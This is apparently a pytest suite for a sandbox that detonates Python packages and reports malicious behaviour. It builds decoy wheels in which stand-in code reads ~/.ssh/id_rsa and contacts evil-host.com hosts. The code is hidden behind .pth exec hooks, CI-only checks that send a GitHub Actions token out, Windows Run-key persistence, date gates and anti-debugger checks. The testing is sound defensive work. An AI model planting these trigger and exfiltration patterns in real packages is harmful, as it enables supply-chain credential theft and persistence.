"""Green means that all of it ran: layouts of packages whose act nobody would see if less were run.

The stand-ins are harmless. ACT reads a decoy key and asks for a name that tells which of them it
was. Many kinds share a package, so that one run shows them all, and each has a harmless relative.
"""

import marshal
import re
import sys
import zipfile
from collections.abc import Iterator
from importlib.util import MAGIC_NUMBER, source_hash
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from conftest import PROGRAM, Snakehook, Triage, make_state, open_folder, variables
from standins import Index, wheel

Report = dict[str, Any]
Where = set[tuple[str, str | None]]


def act_of(kind: str) -> str:
    """Source that defines `act`: what must show wherever it runs."""
    return (
        "def act():\n"
        "    import os, socket\n"
        "    try:\n"
        "        open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        f"        socket.gethostbyname('act-{kind}.evil-host.com')\n"
        "    except OSError:\n"
        "        pass\n"
    )


def acting(kind: str, how: str = "act()\n") -> str:
    """The same with what is done beside; its name is private, or else it would be called itself."""
    return re.sub(r"\bact\b(?!-)", "_act", act_of(kind) + how)


# What a package has that does not act when its own module is imported on this machine, and where
# it must show. Sleeps of a second and more are skipped.
KINDS: dict[str, tuple[dict[str, str], str]] = {
    "namespace": ({"space/client/__init__.py": acting("namespace")}, "import"),
    "submodule": (
        {"pack/__init__.py": "", "pack/proxy/server.py": acting("submodule")},
        "import",
    ),
    "thread": (
        {
            "threads.py": acting(
                "thread",
                "import threading, time\n"
                "def late():\n    time.sleep(0.5)\n    act()\n"
                "threading.Thread(target=late, daemon=True).start()\n",
            )
        },
        "import",
    ),
    "timer": (
        {"timer.py": acting("timer", "import threading\nthreading.Timer(1.0, act).start()\n")},
        "import",
    ),
    "executor": (
        {
            "pool.py": acting(
                "executor",
                "import concurrent.futures\nconcurrent.futures.ThreadPoolExecutor(1).submit(act)\n",
            )
        },
        "import",
    ),
    "atexit": ({"leaves.py": acting("atexit", "import atexit\natexit.register(act)\n")}, "import"),
    "fails": (
        {"fails/__init__.py": "x = 1\nimport not_there_at_all\n", "fails/sub.py": acting("fails")},
        "import",
    ),
    "quits": (
        {
            "quits/__init__.py": "",
            "quits/first.py": "import os\nos._exit(0)\n",
            "quits/later.py": acting("quits"),
        },
        "import",
    ),
    "shadowed": ({"wave.py": acting("shadowed")}, "import"),
    "plug-in": ({"plug.py": "", "plugged/inner.py": acting("plug-in")}, "import"),
    "windows": (
        {"on_windows.py": acting("windows", "import os\nif os.name == 'nt':\n    act()\n")},
        "import as windows",
    ),
    "macos": (
        {
            "on_macos.py": acting(
                "macos", "import platform\nif platform.system() == 'Darwin':\n    act()\n"
            )
        },
        "import as macos",
    ),
    "ci": (
        {"in_ci.py": acting("ci", "import os\nif os.getenv('GITHUB_ACTIONS'):\n    act()\n")},
        "import as ci, later",
    ),
    "ci-bait": (
        {
            "in_ci_bait.py": acting(
                "ci-bait",
                "import os, urllib.request\nif os.getenv('GITHUB_ACTIONS') == 'true':\n"
                "    act()\n    data = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN'].encode()\n"
                "    urllib.request.urlopen('https://ci-bait.evil-host.com/', data)\n",
            )
        },
        "import as ci, later",
    ),
    "pth-windows": (
        {
            "on_windows.pth": "import os, sys; os.name == 'nt' and"
            f" exec({acting('pth-windows')!r})\n"
        },
        "import as windows",
    ),
    "pth-macos": (
        {
            "on_macos.pth": "import platform; platform.system() == 'Darwin' and"
            f" exec({acting('pth-macos')!r})\n"
        },
        "import as macos",
    ),
    "pth-ci": (
        {"in_ci.pth": f"import os; os.getenv('RUNNER_OS') and exec({acting('pth-ci')!r})\n"},
        "import as ci, later",
    ),
    "registry": (
        {
            "on_registry.py": acting(
                "registry",
                "import sys\nif sys.platform == 'win32':\n    import winreg\n"
                "    run = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
                "    with winreg.OpenKey(\n"
                "        winreg.HKEY_CURRENT_USER, run, 0, winreg.KEY_SET_VALUE\n"
                "    ) as key:\n"
                "        winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, 'evil.exe')\n"
                "    act()\n",
            )
        },
        "import as windows",
    ),
    "date": (
        {
            "later_on.py": acting(
                "date",
                "import datetime\nif datetime.date.today() > datetime.date(2029, 1, 1):\n"
                "    act()\n",
            )
        },
        "import as ci, later",
    ),
    "sleep": ({"sleeps.py": acting("sleep", "import time\ntime.sleep(3600)\nact()\n")}, "import"),
    "class": (
        {
            "made.py": acting(
                "class", "class Client:\n    def __init__(self, url: str):\n        act()\n"
            )
        },
        "call",
    ),
    "method": (
        {
            "method.py": acting(
                "method",
                "class Client:\n    def send(self, token: str, path: 'Path'):\n        act()\n",
            )
        },
        "call",
    ),
    "function": (
        {"typed.py": acting("function", "def fetch(url: str, *, retries: int):\n    act()\n")},
        "call",
    ),
    "wrapped": (
        {
            "wrapped.py": acting(
                "wrapped",
                "import json\nreal = json.dumps\n"
                "def dumps(*args, **keywords):\n    act()\n    return real(*args, **keywords)\n"
                "json.dumps = dumps\n",
            )
        },
        "call",
    ),
    "lazy": ({"lazy.py": acting("lazy", "def __getattr__(name):\n    act()\n")}, "call"),
    "subclass": (
        {
            "based.py": acting(
                "subclass",
                "class Base:\n    def __init_subclass__(cls, **more):\n        act()\n",
            )
        },
        "call",
    ),
    "metaclass": (
        {
            "meta.py": acting(
                "metaclass",
                "class Meta(type):\n    def __new__(cls, name, bases, space):\n"
                "        act()\n        return super().__new__(cls, name, bases, space)\n",
            )
        },
        "call",
    ),
    "manager": (
        {
            "managed.py": acting(
                "manager",
                "import contextlib\n@contextlib.contextmanager\ndef session(url):\n"
                "    act()\n    yield\n",
            )
        },
        "call",
    ),
    "special": (
        {"entered.py": acting("special", "class S:\n    def __enter__(self):\n        act()\n")},
        "call",
    ),
    "cached": (
        {
            "cached.py": acting(
                "cached",
                "import functools\nclass C:\n    @functools.cached_property\n"
                "    def token(self):\n        act()\n",
            )
        },
        "call",
    ),
    "partial": (
        {
            "partly.py": acting(
                "partial",
                "import functools\ndef _send(what, how):\n    act()\n"
                "send = functools.partial(_send, 'all')\n",
            )
        },
        "call",
    ),
    "async": (
        {
            "awaited.py": acting(
                "async",
                "class Client:\n    async def __aenter__(self):\n        act()\n"
                "    async def __aexit__(self, *error):\n        pass\n",
            )
        },
        "call",
    ),
    "pip": (
        {
            "on_pip.pth": "import os, sys; os.path.basename(sys.orig_argv[-2]) == 'pip' and"
            f" exec({acting('pip')!r})\n"
        },
        "start",
    ),
    "main": ({"pack/__main__.py": acting("main")}, "execute python -m pack"),
    "script": (
        {"acts_all-1.0.data/scripts/act-now": "#!python\n" + acting("script")},
        "execute bin/act-now",
    ),
    "gui": ({"window.py": acting("gui", "def main():\n    act()\n")}, "execute window"),
    "data": (
        {
            "acts_all-1.0.data/data/lib/python{version}/site-packages/acts.pth": "import sys;"
            f" exec({acting('data')!r})\n"
        },
        "start",
    ),
}
KINDS |= {
    "named": ({"plugged/tail.py": acting("named", "def _end(dist):\n    act()\n")}, "call"),
    "table": ({"table.py": acting("table", "def _go(x):\n    act()\nALL = {'go': _go}\n")}, "call"),
    "steps": (
        {"steps.py": acting("steps", "def pages(url):\n    yield 1\n    act()\n    yield 2\n")},
        "call",
    ),
    # Nothing imports it, and no import statement can name it.
    "nameless": ({"pack/dash-name.py": acting("nameless")}, "import"),
    "added": (
        {"odd-folder/added.py": acting("added"), "acts_adds.pth": "odd-folder\ninside.zip\n"},
        "import",
    ),
}
# Relatives of those: another way to ask, to hide from a call, or to be called by others.
KINDS |= {
    "gitlab": (
        {"in_gitlab.py": acting("gitlab", "import os\nif 'GITLAB_CI' in os.environ:\n    act()\n")},
        "import as ci, later",
    ),
    "uname": (
        {"on_darwin.py": acting("uname", "import os\nif os.uname()[0] == 'Darwin':\n    act()\n")},
        "import as macos",
    ),
    "not-unix": (
        {"not_unix.py": acting("not-unix", "try:\n    import fcntl\nexcept ImportError: act()\n")},
        "import as windows",
    ),
    "no-debugger": (
        {
            "no_debugger.py": acting(
                "no-debugger",
                "import ctypes, os\nif os.name == 'nt':\n"
                "    if not ctypes.windll.kernel32.IsDebuggerPresent(): act()\n",
            )
        },
        "import as windows",
    ),
    "ends-all": (
        {"ends/__init__.py": "import os\nos._exit(0)\n", "ends/sub.py": acting("ends-all")},
        "import",
    ),
    "codec": (
        {"codec.py": acting("codec", "import codecs\ncodecs.register(lambda name: act())\n")},
        "import",
    ),
    "disowned": (
        {"disowned.py": acting("disowned", "__name__ = 'json'\ndef send(url):\n    act()\n")},
        "call",
    ),
    "kept": (
        {
            "kept.py": acting(
                "kept",
                "import argparse\ndef _send(x):\n    act()\n"
                "options = argparse.Namespace(run=_send)\n",
            )
        },
        "call",
    ),
    "signed": (
        {"signed.py": acting("signed", "def f(x):\n    act()\nf.__signature__ = 5\n")},
        "call",
    ),
    "test-main": ({"pack/tests/__main__.py": acting("test-main")}, "call tests"),
}
ENTRY_POINTS = "[gui_scripts]\nwindow = window:main\n[pytest11]\nplug = plugged.inner\n"
ENTRY_POINTS += "[distutils.setup_keywords]\nend = plugged.tail:_end\n"

# The same places in a package that does nothing but what is usual there.
CALM: dict[str, str | bytes] = {
    "calm/__init__.py": "import os, sys, platform, datetime, threading, logging\n"
    "try:\n    import not_there_at_all\nexcept ImportError:\n    not_there_at_all = None\n"
    "IS_WINDOWS = os.name == 'nt'\n"
    "if IS_WINDOWS:\n    import ctypes, winreg\n    ctypes.windll.kernel32.GetStdHandle(-11)\n"
    "if platform.system() == 'Darwin':\n    FOLDER = '~/Library'\n"
    "if IS_WINDOWS:\n"
    "    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Calm') as key:\n"
    "        winreg.SetValueEx(key, 'Theme', 0, winreg.REG_SZ, 'dark')\n"
    "IN_CI = bool(os.environ.get('CI') or os.environ.get('GITLAB_CI'))\n"
    "try:\n    import fcntl\nexcept ImportError:\n    fcntl = None\n"
    "NODE = os.uname().nodename if hasattr(os, 'uname') else ''\n"
    "YEAR = datetime.date.today().year\n"
    "lock = threading.Lock()\n",
    "calm-1.0.data/data/share/bash-completion/completions/calm": "complete calm\n",
    "calm-1.0.data/data/etc/jupyter/jupyter_server_config.d/calm.json": "{}\n",
    "calm/tables.py": "def _go(path):\n    return str(path)\nALL = {'go': _go}\n"
    "def pages(url):\n    yield from (1, 2, 3)\n",
    "calm/__main__.py": "from calm.tools import main\nmain()\n",
    "calm/kinds.py": "import argparse, enum, functools\n"
    "class Kind(enum.Enum):\n    ONE = 1\n    def label(self):\n        return self.name\n"
    "def _run(x):\n    return x\noptions = argparse.Namespace(run=_run)\n"
    "def show(kind: Kind) -> str:\n    return kind.name\n"
    "@functools.singledispatch\ndef text(x):\n    return str(x)\n",
    "calm/plug.py": "def pytest_addoption(parser):\n    pass\n",
    "calm/tools.py": "import argparse, atexit, time\n"
    "def main():\n    print('calm')\n"
    "def fetch(url: str, timeout: float = 1.0) -> str:\n    return url.upper()\n"
    "def wait(seconds: float) -> None:\n    time.sleep(seconds)\n"
    "class Client:\n"
    "    def __init__(self, token: str) -> None:\n        self.token = token\n"
    "    def get(self, path: str) -> str:\n        return path + self.token\n"
    "    def __enter__(self): return self\n"
    "    def __exit__(self, *error): return None\n"
    "    def __init_subclass__(cls): cls.kind = 'client'\n"
    "    def __len__(self): return len(self.token)\n"
    "atexit.register(lambda: None)\n",
    # What fails everywhere, and would not have acted: for want of another, or by itself.
    "calm/extra.py": "try:\n    import not_there_at_all\nexcept ImportError as error:\n"
    "    raise RuntimeError('pip install calm[extra]') from error\n"
    "import subprocess\ndef run():\n    subprocess.run(['true'])\n",
    "calm/wants.py": "from not_there_at_all import Base\nclass Child(Base):\n"
    "    def run(self):\n        exec('x = 1')\n",
    "calm/settings.py": "raise RuntimeError('set CALM_HOME first')\nHOME = 'calm'\n",
    "calm/run-me.py": "import sys\nprint('calm')\nsys.exit(0)\n",
    "calm/__pycache__/tools.cpython-399.pyc": b"\1\1\r\n" + bytes(12) + b"of a time",
    "calm/tests/test_tools.py": "from calm.tools import fetch\nassert fetch('a') == 'A'\n",
    "calm_space/part/__init__.py": "NAME = 'part'\n",
    "calm-1.0.data/scripts/calm-too": "#!python\nprint('calm, too')\n",
    "calm-1.0.data/data/share/calm/readme.txt": "nothing\n",
    "calm-1.0.dist-info/entry_points.txt": "[console_scripts]\ncalm = calm.tools:main\n"
    "[gui_scripts]\ncalm-window = calm.tools:main\n[pytest11]\ncalm = calm.plug\n",
}


def compiled(kind: str, source: str) -> bytes:
    """What stands in __pycache__ of a source that is never looked at again."""
    code = compile(acting(kind), "compiled.py", "exec")
    flags = (1).to_bytes(4, "little")  # a hash of the source, which is not compared
    return MAGIC_NUMBER + flags + source_hash(source.encode()) + marshal.dumps(code)


def archive(members: dict[str, str]) -> bytes:
    """A zip file."""
    data = BytesIO()
    with zipfile.ZipFile(data, "w") as packed:
        for name, text in members.items():
            packed.writestr(name, text)
    return data.getvalue()


def acts(report: Report) -> dict[str, Where]:
    """Where each act showed: by kind, phase and trigger."""
    found: dict[str, Where] = {}
    for item in report["network"]:
        name = str(item["target"])
        if name.startswith("act-") and name.endswith(".evil-host.com"):
            kind = name.removeprefix("act-").removesuffix(".evil-host.com")
            found.setdefault(kind, set()).add((item["phase"], item["trigger"]))
    return found


def findings(report: Report, severity: str) -> list[tuple[str, str]]:
    return [
        (item["rule"], item["title"]) for item in report["findings"] if item["severity"] == severity
    ]


def python_version(program: Snakehook) -> str:
    """That of the jail's interpreter, as folders are called after it."""
    folders = (program.state / "python").glob("**/site-packages")
    # Another test may have had one made with another pip.
    (name,) = {folder.parent.name for folder in folders}
    return name.removeprefix("python")


def serve_acts(index: Index, version: str) -> None:
    """A package with all of KINDS."""
    files: dict[str, str | bytes] = {"acts_all-1.0.dist-info/entry_points.txt": ENTRY_POINTS}
    files["compiled.py"] = "x = 1\n"
    cached = f"__pycache__/compiled.{sys.implementation.cache_tag}.pyc"
    files[cached] = compiled("compiled", "x = 1\n")
    files["acts_all-1.0.data/data/bin/activate"] = "cat ~/.ssh/id_rsa\n"
    files["acts_all-1.0.data/data/lib/python3.99/site-packages/other.py"] = acting("other")
    files["inside.zip"] = archive({"zipped.py": acting("archive")})
    for kind, _ in KINDS.values():
        files |= {path.replace("{version}", version): text for path, text in kind.items()}
    index.add_wheel("acts-all", "1.0", files)


@pytest.fixture(scope="module")
def shared_index() -> Iterator[Index]:
    with Index() as index:
        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
        yield index


@pytest.fixture(scope="module")
def whole_report(jail: None, shared_index: Index, jail_python_cache: Path) -> Iterator[Report]:
    """The report of the package with all kinds, detonated once."""
    with open_folder("triggers") as home:
        state = make_state(home, jail_python_cache)
        program = Snakehook(PROGRAM, variables(state, shared_index))
        program.run("check")
        serve_acts(shared_index, python_version(program))
        yield program.triage("acts-all", "--mode", "detonate")[1]


@pytest.mark.parametrize("kind", KINDS)
def test_the_act_shows(whole_report: Report, kind: str) -> None:
    wanted = KINDS[kind][1]
    shown = acts(whole_report).get(kind, set())
    titles = {f"{phase} {trigger}" if trigger else phase for phase, trigger in shown}
    assert any(title.startswith(wanted) for title in titles), f"{kind} showed in {titles}"


def test_what_comes_compiled_is_run_as_it_is(whole_report: Report) -> None:
    if f"python{sys.version_info.major}.{sys.version_info.minor}" not in str(whole_report["code"]):
        pytest.skip("the jail has another Python than the tests")
    assert "import" in {phase for phase, _ in acts(whole_report)["compiled"]}


def test_what_an_archive_on_the_path_has_is_imported(whole_report: Report) -> None:
    assert "import" in {phase for phase, _ in acts(whole_report)["archive"]}


def test_what_reads_the_key_is_high_in_each_phase(whole_report: Report) -> None:
    assert whole_report["verdict"] == "high"
    read = {item["phase"] for item in whole_report["findings"] if item["rule"] == "secret.read"}
    assert {"start", "import", "call", "execute"} <= read


def test_what_only_a_ci_machine_has_is_seen_to_leave(whole_report: Report) -> None:
    sent = [item for item in whole_report["findings"] if item["rule"] == "secret.sent"]
    assert {(item["severity"], item["trigger"]) for item in sent} == {("high", "as ci, later")}
    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN to https://ci-bait.evil-host.com" in sent[0]["title"]


def test_what_starts_with_windows_is_persistence(whole_report: Report) -> None:
    written = [item for item in whole_report["findings"] if item["rule"] == "persistence.write"]
    (item,) = [item for item in written if "registry" in item["title"]]
    assert (item["severity"], item["trigger"]) == ("high", "as windows")
    assert "CurrentVersion\\Run\\Updater" in item["title"]
    assert item["at"].endswith("on_registry.py:18")


def test_what_others_than_its_own_programs_use_is_told(whole_report: Report) -> None:
    told = [title for _, title in findings(whole_report, "medium") if title.startswith("installs")]
    assert any("bin/activate," in title for title in told), told
    assert any("lib/python3.99/site-packages/other.py," in title for title in told), told


def test_a_condition_is_told_with_its_line(whole_report: Report) -> None:
    gates = [item for item in whole_report["findings"] if item["rule"] == "code.gated"]
    assert {item["severity"] for item in gates} == {"info"}
    told = {
        (item["title"].partition("(")[2].partition(")")[0], item["at"].rpartition("/")[2])
        for item in gates
    }
    assert {("CI", "in_ci.py:12"), ("system", "on_windows.py:12")} <= told
    assert {kind for kind, _ in told} >= {"system", "CI", "date"}


def test_a_long_sleep_is_skipped_and_told(whole_report: Report) -> None:
    told = [title for rule, title in findings(whole_report, "info") if rule == "limit.hit"]
    assert any("3600" in title or "3599" in title for title in told), told


def test_a_replaced_function_is_told_with_its_place(whole_report: Report) -> None:
    (item,) = [item for item in whole_report["findings"] if "json.dumps" in item["title"]]
    assert (item["severity"], item["rule"]) == ("medium", "code.dynamic")
    assert item["at"].endswith("/wrapped.py:13")


def test_that_the_library_s_module_comes_first_is_told(whole_report: Report) -> None:
    assert any("wave is found in /" in note for note in whole_report["coverage"]["notes"])


def test_the_harmless_relatives_are_clean(triage: Triage, index: Index) -> None:
    index.add_wheel("calm", "1.0", CALM)
    code, report, _ = triage("calm", "--mode", "detonate")
    assert findings(report, "high") == findings(report, "medium") == []
    assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")
    notes = " ".join(report["coverage"]["notes"])
    assert "RECORD" not in notes
    assert "other files" not in notes
    titles = {(phase["name"], phase["trigger"]) for phase in report["phases"]}
    assert {
        ("import", "calm"),
        ("import", "calm_space.part"),
        ("import", "all modules"),
        ("call", None),
        ("call", "tests"),
        ("execute", "calm"),
        ("execute", "calm-window"),
        ("execute", "bin/calm-too"),
        ("execute", "python -m calm"),
    } <= titles


# What fails whoever imports it, before its act: by name, with what is said of it.
BEFORE_ITS_ACT = {
    "raises": ("raise RuntimeError('not here')\nact()\n", "act()"),
    "wants": ("import not_there_at_all\nact()\n", "act()"),
    "exits": ("import sys\nif len(sys.path) > 1:\n    sys.exit(0)\nact()\n", "act()"),
    "dies": ("import os\nif os.getppid() >= 0:\n    os._exit(0)\nact()\n", "act()"),
    "offers": ("if not ():\n    raise OSError\ndef steal(): exec(input())\n", "exec(input())"),
    "made_up": ("raise ValueError\ngetattr(act, '__ca' + 'll__')()\n", "getattr(_act"),
    "newer": ("exec = do 1\nact()\n", "socket.gethostbyname("),
}


# What is not run for want of another project, and fails nobody.
BEHIND_ANOTHER = {
    "optional": "try:\n    import not_there_at_all\n    act()\nexcept ImportError:\n    pass\n",
    "asked": "import importlib.util as u\nif u.find_spec('not_there_at_all'):\n    act()\n",
}


def test_what_fails_before_its_act_everywhere_is_a_gap(triage: Triage, index: Index) -> None:
    files: dict[str, str | bytes] = {"halts/__init__.py": "", "halts/clean.py": "x = 1\n"}
    files["leaves.py"] = "import os\nos._exit(0)\n"
    for name, how in BEHIND_ANOTHER.items():
        files[f"halts/{name}.py"] = acting(name, how)
    # Its title must not be that of the trigger which imports all modules.
    files["all modules.py"] = "raise OSError\n"
    for name, (how, _) in BEFORE_ITS_ACT.items():
        files[f"halts/{name}.py"] = acting(name, how)
    # An unchecked file for another Python, which would import it in place of its source.
    files["halts/__pycache__/clean.cpython-399.pyc"] = b"\1\1\r\n\1" + bytes(11)
    files["halts/compiled.pyc"] = b"\1\1\r\n" + bytes(12)
    index.add_wheel("halts", "1.0", files)
    _, report, _ = triage("halts", "--mode", "import")
    assert acts(report) == {}
    assert report["verdict"] == "unseen"
    gaps = report["coverage"]["gaps"]
    for name, (_, shown) in BEFORE_ITS_ACT.items():
        told = [gap for gap in gaps if gap.startswith(f"halts.{name} fails before")]
        assert len(told) == 1 and shown in told[0], (name, gaps)
    assert any(gap.startswith("halts.compiled fails before") for gap in gaps)
    assert any("halts/__pycache__/clean.cpython-399.pyc" in gap for gap in gaps)
    assert "not run: import leaves: it ends the interpreter that imports it" in gaps
    for name in BEHIND_ANOTHER:
        told = [gap for gap in gaps if f"/halts/{name}.py:" in gap]
        assert len(told) == 1 and "waits for not_there_at_all, which is not there" in told[0]
    assert any("import 'all modules': exit code 1: OSError" in gap for gap in gaps)
    # What ends it there on a condition holds the act back, too.
    others = [gap for gap in gaps if "is behind a condition" not in gap]
    assert len(others) == len(BEFORE_ITS_ACT) + len(BEHIND_ANOTHER) + 4, gaps


def test_as_an_ordinary_user_the_same_shows(ordinary: Snakehook, index: Index) -> None:
    ordinary.run("check")
    serve_acts(index, python_version(ordinary))
    _, report, _ = ordinary.triage("acts-all", "--mode", "detonate")
    assert set(KINDS) <= set(acts(report))


def test_what_goes_on_for_ever_acts_and_is_told(triage: Triage, index: Index) -> None:
    source = acting(
        "loop",
        "import threading, time\n"
        "def loop():\n    while True:\n        threading.Event().wait(1)\n        act()\n"
        "threading.Thread(target=loop, daemon=True).start()\n"
        # A thread that Python knows nothing of, and a timer that it may wait for.
        "import ctypes\nlibrary, made = ctypes.CDLL(None), ctypes.c_void_p()\n"
        "library.pthread_create(ctypes.byref(made), None, library.pause, None)\n"
        "library.timerfd_create(1, 0)\n",
    )
    index.add_wheel("loops", "1.0", {"loops.py": source})
    _, report, _ = triage("loops", "--mode", "import")
    assert acts(report)["loop"]
    told = [title for rule, title in findings(report, "medium") if rule == "limit.hit"]
    assert any("2 at work: Thread-1" in title and "a native thread" in title for title in told)
    assert any("left at work" in item for item in report["coverage"]["not_run"])


def test_a_module_is_imported_however_long_the_record(triage: Triage, index: Index) -> None:
    files = {f"junk/{number:05}.txt": "" for number in range(5200)}
    files |= {"real/__init__.py": "", "real/last.py": acting("long")}
    index.add_wheel("zz-long", "1.0", files)
    _, report, _ = triage("zz-long", "--mode", "import")
    assert acts(report)["long"]


def test_a_folder_of_metadata_may_be_spelled_otherwise(triage: Triage, index: Index) -> None:
    """pip lands such a wheel, and fails only afterwards."""
    name, data = wheel("odd-name", "1.0", {"odd.py": acting("hyphen")})
    renamed = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(renamed, "w") as new:
        for member in old.infolist():
            text = old.read(member).replace(b"odd_name-1.0.dist-info", b"odd-name-1.0.dist-info")
            new.writestr(member.filename.replace("odd_name-1.0.d", "odd-name-1.0.d"), text)
    index.add_file("odd-name", name, renamed.getvalue())
    _, report, _ = triage("odd-name", "--mode", "import")
    assert acts(report)["hyphen"]


def test_a_release_has_two_faces(triage: Triage, index: Index) -> None:
    """pip takes the wheel. What else there is is named, and `artifact` chooses it."""
    info = "two_faced-1.0.dist-info"
    record = f"two_faced.py,,\nabsent.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
    index.add_wheel("two-faced", "1.0", {"two_faced.py": "", f"{info}/RECORD": record})
    index.add_backend_sdist("two-faced", "1.0", acting("sdist"), {"two_faced.py": ""})
    _, report, _ = triage("two-faced")
    notes = " ".join(report["coverage"]["notes"])
    assert "not looked at (artifact chooses): two_faced-1.0.tar.gz" in notes
    assert "RECORD lists files that are not there" in notes and "/absent.py" in notes
    assert (acts(report), report["verdict"]) == ({}, "clean")
    _, report, _ = triage("two-faced", "--mode", "detonate", "--artifact", "sdist")
    assert ("install", None) in acts(report)["sdist"]
    assert report["verdict"] == "high"
    notes = " ".join(report["coverage"]["notes"])
    assert "not looked at (artifact chooses): two_faced-1.0-py3-none-any.whl" in notes


def test_what_failed_for_want_of_another_has_a_second_try(triage: Triage, index: Index) -> None:
    """What cannot be had keeps nobody from what can."""
    source = "try:\n    import other_lib\nexcept ImportError:\n    pass\nimport helper_lib\n"
    index.add_wheel("asks", "1.0", {"asks.py": source})
    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
    index.add_wheel("other-lib", "2.0", {"other_lib.py": ""}, requires=["nobody-has-it"])
    _, report, _ = triage("asks", "--mode", "import")
    tries = [phase["outcome"] for phase in report["phases"] if phase["trigger"] == "asks"]
    assert (tries, report["verdict"]) == (["failed", "ok"], "clean")
    notes = " ".join(report["coverage"]["notes"])
    assert "installed later: helper-lib" in notes
    assert "not there: other_lib" in notes


def test_what_is_missed_is_installed_and_asked_again(triage: Triage, index: Index) -> None:
    source = act_of("missed") + (
        "from importlib import import_module\n"
        "try:\n    import_module('helper_lib')\nexcept ImportError:\n    pass\nelse:\n    act()\n"
        "try:\n    import nobody_has_it\nexcept ImportError:\n    pass\n"
    )
    version = acting(
        "version",
        "import importlib.metadata\n"
        "try:\n    importlib.metadata.version('Helper.Lib')\n"
        "except importlib.metadata.PackageNotFoundError:\n    pass\nelse:\n    _act()\n",
    )
    index.add_wheel("asks", "1.0", {"asks.py": source, "asks_version.py": version})
    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
    _, report, _ = triage("asks", "--mode", "import")
    for kind in ("missed", "version"):
        assert {phase for phase, _ in acts(report)[kind]} == {"import"}
    notes = " ".join(report["coverage"]["notes"])
    assert "installed later: helper-lib" in notes
    assert "not there: nobody_has_it" in notes
    assert report["coverage"]["gaps"] == []


def test_what_is_installed_later_is_not_the_package_s_doing(triage: Triage, index: Index) -> None:
    """Harmless: it asks for what others have, which brings files and a .pth file of its own."""
    source = "try:\n    import helper_lib\nexcept ImportError:\n    helper_lib = None\n"
    index.add_wheel("asks", "1.0", {"asks.py": source})
    index.add_wheel("asks", "2.0", {"asks.py": "raise SystemExit('another version')\n"})
    files = {"helper_lib.py": "x = 1\n", "helper.pth": "import helper_lib\n"}
    index.add_wheel("helper-lib", "2.0", files, requires=["asks"])
    _, report, _ = triage("asks", "--mode", "import")
    assert ("install", "of helper-lib", "ok") in [
        (phase["name"], phase["trigger"], phase["outcome"]) for phase in report["phases"]
    ]
    assert (report["verdict"], findings(report, "medium")) == ("clean", [])


def test_what_is_missed_and_fails_to_install_is_no_failure(triage: Triage, index: Index) -> None:
    source = "try:\n    import helper_lib\nexcept ImportError:\n    helper_lib = None\n"
    index.add_wheel("asks", "1.0", {"asks.py": source})
    index.add_wheel("helper-lib", "2.0", {}, requires=["nobody-has-it"])
    code, report, _ = triage("asks", "--mode", "import")
    assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")


def test_who_closes_the_folder_for_temporary_files_loses_no_report(
    triage: Triage, index: Index
) -> None:
    source = "import os\nos.chmod('/tmp', 0)\ntry:\n    import helper_lib\n"
    source += "except ImportError:\n    helper_lib = None\n"
    index.add_wheel("asks", "1.0", {"asks.py": source})
    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
    _, report, _ = triage("asks", "--mode", "import")
    tries = [phase for phase in report["phases"] if phase["trigger"] == "of helper-lib"]
    # pip takes another folder.
    assert [phase["outcome"] for phase in tries] == ["ok"]
    assert report["outcome"] == "ok"


def test_a_dependency_s_own_modules_are_imported(triage: Triage, index: Index) -> None:
    index.add_wheel("front", "1.0", {"front.py": ""}, requires=["payload-lib"])
    index.add_wheel("payload-lib", "1.0", {"payload_lib/__init__.py": acting("dependency")})
    _, report, _ = triage("front", "--mode", "import")
    assert acts(report)["dependency"] == {("import", "dependencies")}


@pytest.mark.parametrize("is_caught", [True, False])
def test_the_limit_of_cpu_time_is_named(triage: Triage, index: Index, is_caught: bool) -> None:
    """A package that catches the signal is killed a second later; both are timeouts."""
    catch = "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\n" if is_caught else ""
    index.add_wheel("burns", "1.0", {"burns.py": f"{catch}while True: pass\n"})
    arguments = ("--mode", "execute_module", "--module-name", "burns")
    code, report, _ = triage("burns", *arguments, RLIMIT_CPU_SEC=2)
    assert (code, report["outcome"]) == (4, "timeout")
    assert "RLIMIT_CPU_SEC" in report["reason"]


def test_who_kills_itself_is_no_timeout(triage: Triage, index: Index) -> None:
    index.add_wheel("dies", "1.0", {"dies.py": "import os\nos.kill(os.getpid(), 9)\n"})
    _, report, _ = triage("dies", "--mode", "execute_module", "--module-name", "dies")
    assert report["outcome"] == "failed"


def test_programs_beyond_the_bound_run_in_one_jail(triage: Triage, index: Index) -> None:
    """Each on its own feet: one that never ends costs no other's turn."""
    scripts = {f"s{number:02}": "many:calm" for number in range(8)}
    scripts |= {"t-endless": "many:endless", "u-acts": "many:main"}
    source = acting(
        "script17",
        "import threading\n"
        "def calm():\n    pass\n"
        "def endless():\n    threading.Event().wait()\n"
        "def main():\n    act()\n",
    )
    index.add_wheel("many", "1.0", {"many.py": source}, console_scripts=scripts)
    _, report, _ = triage("many", "--mode", "detonate")
    assert ("execute", "2 more programs") in acts(report)["script17"]
    told = [title for rule, title in findings(report, "info") if rule == "limit.hit"]
    assert any("endless" in title for title in told), told
